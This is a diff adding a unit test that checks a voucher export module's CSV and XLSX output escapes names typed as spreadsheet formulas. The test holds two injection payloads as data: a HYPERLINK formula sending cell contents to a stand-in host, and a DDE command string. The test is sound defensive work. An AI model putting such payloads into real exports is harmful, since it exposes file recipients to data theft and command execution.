@@ -505,6 +505,25 @@ class TestVoucherExports(VoucherCase):
             self.assertEqual(values[0][0], batch.name)
             self.assertEqual({r[3] for r in values[header + 1 :]}, {batch.price})
 
+    def test_exports_never_run_a_name_as_a_formula(self):
+        """A batch, bundle or reseller name typed as a formula is text in both files."""
+        payload = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
+        self.batch.write({"name": payload[:40]})
+        self.daily.product_tmpl_id.name = "+cmd|' /C calc'!A0"
+        rows = list(
+            csv.reader(
+                io.StringIO(self.env["isp.voucher.export"]._isp_render(self.batch, "csv").decode())
+            )
+        )
+        self.assertEqual(rows[1][1], "'" + payload[:40])
+        self.assertTrue(rows[1][2].startswith("'+cmd"))
+        book = openpyxl.load_workbook(
+            io.BytesIO(self.env["isp.voucher.export"]._isp_render(self.batch, "xlsx"))
+        )
+        cells = [c for row in book.worksheets[0].iter_rows() for c in row if c.value]
+        self.assertFalse([c.coordinate for c in cells if c.data_type == "f"], "no formula cell")
+        self.assertIn(payload[:40], [c.value for c in cells])
+
     def test_cards_render_one_card_per_available_code(self):
         self.batch.voucher_ids[0].action_void()
         action = self.batch.action_print_cards_a4()
